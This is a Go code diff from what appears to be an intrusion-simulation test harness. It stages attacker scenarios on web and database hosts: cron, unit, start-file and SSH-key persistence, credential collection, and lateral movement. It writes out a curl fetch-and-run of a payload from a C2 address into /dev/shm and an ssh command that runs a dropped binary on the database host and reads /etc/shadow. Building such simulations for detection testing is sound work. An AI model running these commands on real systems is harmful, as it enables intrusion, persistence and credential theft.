@@ -10,15 +10,15 @@ import (
 
 // others differ in how the intruder comes in, stays, or goes on.
 var others = []Shape{
-	{Name: "cron", About: "a crontab runs the tool three hours later", Options: stage.Options{Cron: true}, Play: byCron},
-	{Name: "unit", About: "a unit runs the tool two hours later", Options: stage.Options{RootService: true}, Play: byUnit},
-	{Name: "start-file", About: "a start file of a shell runs the tool when the administrator logs in", Options: stage.Options{RootService: true}, Play: byStartFile},
-	{Name: "planted-key", About: "a key is planted, and used to come back over ssh", Options: stage.Options{RootService: true}, Play: byKey},
+	{Name: "cron", About: "a crontab runs the tool three hours later", Options: stage.Options{Hosts: []stage.HostOptions{{Name: stage.Web, Address: stage.WebAddress, Service: true, Scheduler: true}}}, Play: byCron},
+	{Name: "unit", About: "a unit runs the tool two hours later", Options: stage.Options{Hosts: []stage.HostOptions{careless()}}, Play: byUnit},
+	{Name: "start-file", About: "a start file of a shell runs the tool when the administrator logs in", Options: stage.Options{Hosts: []stage.HostOptions{careless()}}, Play: byStartFile},
+	{Name: "planted-key", About: "a key is planted, and used to come back over ssh", Options: stage.Options{Hosts: []stage.HostOptions{careless()}}, Play: byKey},
 	{Name: "ssh", About: "a stolen key: the tool comes through the session's input, passwords and keys are read", Play: bySSH},
-	{Name: "collector", About: "a script reads credentials and sends them away", Options: stage.Options{RootService: true}, Play: collector},
-	{Name: "lateral", About: "a key of the service opens the database host, where the tool runs as well", Options: stage.Options{RootService: true, Second: true}, Play: lateral},
+	{Name: "collector", About: "a script reads credentials and sends them away", Options: stage.Options{Hosts: []stage.HostOptions{careless()}}, Play: collector},
+	{Name: "lateral", About: "a key of the service opens the database host, where the tool runs as well", Options: stage.Options{Hosts: []stage.HostOptions{careless(), {Name: stage.Database, Address: stage.DatabaseAddress}}}, Play: lateral},
 	{
-		Name: "container", About: "the service is in a container", Options: stage.Options{Container: true},
+		Name: "container", About: "the service is in a container", Options: stage.Options{Hosts: []stage.HostOptions{{Name: stage.Web, Address: stage.WebAddress, Service: true, Contained: true}}},
 		Play: simple(list(drop+" "+stage.C2), list("/dev/shm/kworker"), "curl -s "+get("t")+" -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker"),
 	},
 	{Name: "rotation", About: "eight deliveries, each under another name, half of them of another tool from other addresses and with another C2", Play: rotation},
@@ -127,10 +127,13 @@ func lateral(ctx context.Context, s *stage.Stage) error {
 	}
 	i.Brought("/dev/shm/.l")
 	i.Called(drop, stage.C2, database)
-	there := s.Intruder(s.Database, "10.203.1.2")
+	there := s.Intruder(s.Hosts[stage.Database], stage.WebAddress)
 	there.Brought("/dev/shm/.m")
 	const command = "cat > /dev/shm/.m; chmod +x /dev/shm/.m; /dev/shm/.m; cat /etc/shadow > /dev/null"
-	if err := there.Through(ctx, i, "ssh -i /root/.ssh/id_ed25519 -F /root/.ssh/config root@"+stage.DatabaseAddress+" '"+command+"' < /dev/shm/.l"); err != nil {
+	err = there.Through(ctx, func(ctx context.Context) error {
+		return i.Inject(ctx, "ssh -i /root/.ssh/id_ed25519 -F /root/.ssh/config root@"+stage.DatabaseAddress+" '"+command+"' < /dev/shm/.l")
+	})
+	if err != nil {
 		return err
 	}
 	i.Read("/root/.ssh/id_ed25519")
@@ -175,4 +178,9 @@ func twoIntruders(ctx context.Context, s *stage.Stage) error {
 	first.Brought("/dev/shm/kworker")
 	second.Brought("/var/tmp/.q")
 	return nil
+}
+
+// careless runs its web service as root.
+func careless() stage.HostOptions {
+	return stage.HostOptions{Name: stage.Web, Address: stage.WebAddress, Service: true, Careless: true}
 }
